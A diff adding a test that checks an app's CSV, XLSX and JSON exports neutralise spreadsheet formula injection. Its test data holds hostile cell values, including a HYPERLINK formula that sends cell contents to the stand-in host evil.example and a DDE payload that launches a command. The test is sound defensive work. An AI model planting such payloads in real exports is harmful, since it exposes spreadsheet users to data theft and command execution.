@@ -242,3 +242,45 @@ def test_page_image_of_a_file_lost_from_storage_is_503_not_500(alice_client, pro
     response = alice_client.get(f"/api/projects/{processed['p']}/documents/{processed['d']}/pages/0/image/")
     assert (response.status_code, response.json()["code"]) == (503, "storage_error")
     assert "a.png" in response.json()["message"]
+
+
+HOSTILE_CELLS = {
+    "vendor_name": '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
+    "customer_name": "@SUM(1+1)*cmd|' /C calc'!A0",
+    "invoice_number": "+1+1",
+    "total": "-12.50",
+}
+
+
+def test_exports_never_turn_text_into_formulas(alice_client, processed):
+    import csv
+    import io
+
+    from openpyxl import load_workbook
+
+    p, t, d = processed["p"], processed["t"], processed["d"]
+    path = f"/api/projects/{p}/documents/{d}/fields/"
+    body = {"fields": HOSTILE_CELLS, "line_items": [{"description": "=1+1", "amount": "-3.00"}]}
+    assert alice_client.patch(path, body, format="json").status_code == 200
+    documents = list(
+        csv.DictReader(
+            io.StringIO(alice_client.get(f"/api/projects/{p}/export/?format=csv").content.decode())
+        )
+    )
+    assert documents[0]["vendor_name"] == "'" + HOSTILE_CELLS["vendor_name"]
+    assert documents[0]["customer_name"] == "'" + HOSTILE_CELLS["customer_name"]
+    assert documents[0]["invoice_number"] == "'+1+1"
+    assert documents[0]["total"] == "-12.50"  # a number stays a number
+    items = alice_client.get(
+        f"/api/projects/{p}/ocr-download/{t}/?format=csv&table=line_items"
+    ).content.decode()
+    assert next(csv.DictReader(io.StringIO(items)))["description"] == "'=1+1"
+    workbook = load_workbook(io.BytesIO(alice_client.get(f"/api/projects/{p}/export/?format=xlsx").content))
+    cells = [
+        c for sheet in workbook for row in sheet.iter_rows(min_row=2) for c in row if c.value is not None
+    ]
+    assert cells and all(c.data_type != "f" for c in cells)
+    values = {c.value for c in cells}
+    assert HOSTILE_CELLS["vendor_name"] in values and "=1+1" in values  # kept verbatim, as text
+    exported = alice_client.get(f"/api/projects/{p}/export/?format=json").json()
+    assert exported[0]["fields"]["vendor_name"] == HOSTILE_CELLS["vendor_name"]  # JSON is data: unchanged
